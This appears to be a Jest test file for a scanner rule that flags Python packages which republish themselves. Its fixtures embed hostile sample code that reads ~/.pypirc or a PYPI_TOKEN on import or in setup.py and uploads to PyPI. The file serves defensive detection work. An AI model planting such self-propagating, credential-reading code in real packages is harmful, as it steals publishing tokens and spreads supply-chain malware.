import { describe, expect, it } from '@jest/globals';
import { pySelfPropagation } from '../../../src/analysis/rules/py-self-propagation.js';
import { gating, runOn } from './helpers.js';

const setup = "from setuptools import setup\nsetup(name='demo')\n";

describe('py-self-propagation', () => {
  it('flags twine upload run with found tokens on import', async () => {
    const findings = await runOn(pySelfPropagation, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': [
        'import os, subprocess',
        'rc = open(os.path.expanduser("~/.pypirc")).read()',
        'subprocess.run("python -m twine upload dist/* -u __token__ -p " + rc, shell=True)',
      ].join('\n'),
    });
    expect(findings[0]?.severity).toBe('critical');
  });

  it('flags a POST to the PyPI upload API from setup.py', async () => {
    const findings = await runOn(pySelfPropagation, 'pypi', {
      'demo-1.0/setup.py': [
        'import os, requests',
        'from setuptools import setup',
        'requests.post("https://upload.pypi.org/legacy/", auth=("__token__", os.environ["PYPI_TOKEN"]))',
        "setup(name='demo')",
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
  });

  it('keeps a release helper that publishes when called below the gate', async () => {
    const findings = await runOn(pySelfPropagation, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/release.py': [
        'import subprocess',
        'def release(version):',
        '    subprocess.run(["python", "-m", "build"])',
        '    subprocess.run(["twine", "upload", "dist/*"])',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
    expect(findings[0]?.severity).toBe('low');
  });
});
